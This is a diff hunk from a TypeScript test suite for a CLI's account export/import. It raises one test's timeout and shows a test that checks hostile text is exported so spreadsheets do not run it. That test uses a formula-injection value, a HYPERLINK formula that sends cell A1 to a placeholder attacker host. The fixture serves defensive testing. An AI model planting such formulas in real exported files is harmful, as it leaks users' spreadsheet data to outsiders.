@@ -484,7 +484,8 @@ describe("accountable export", () => {
     // Reimporting the same file skips every row.
     const again = await json<{ skipped: number; imported: number }>(["--workspace", "copy", "import", file]);
     expect(again).toMatchObject({ imported: 0, skipped: 3 });
-  });
+    // A dozen CLI processes, each opening the embedded database: a minute on a loaded 2-core machine.
+  }, 180_000);
 
   it("writes hostile text so no spreadsheet runs it, and a re-import reads the original text back", async () => {
     const account = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
